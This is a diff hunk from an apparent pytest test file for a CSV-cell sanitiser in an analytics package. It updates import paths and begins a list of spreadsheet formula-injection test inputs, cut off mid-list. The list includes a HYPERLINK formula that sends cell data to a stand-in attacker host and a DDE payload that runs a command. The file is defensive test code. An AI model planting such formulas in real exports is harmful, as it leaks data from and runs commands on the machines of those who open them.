@@ -12,10 +12,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from gpulens.analytics.csv_cells import FORMULA_STARTS, neutralise, safe_frame, safe_table
-from gpulens.analytics.report import write_report
-from gpulens.analytics.run import analyze
-from gpulens.analytics.settings import AnalysisSettings
+from analytics.csv_cells import FORMULA_STARTS, neutralise, safe_frame, safe_table
+from analytics.run import analyze
+from analytics.settings import AnalysisSettings
+from dashboards.report import write_report
 from tests.support.analytics_fleet import T0, Fleet
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"invoice")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
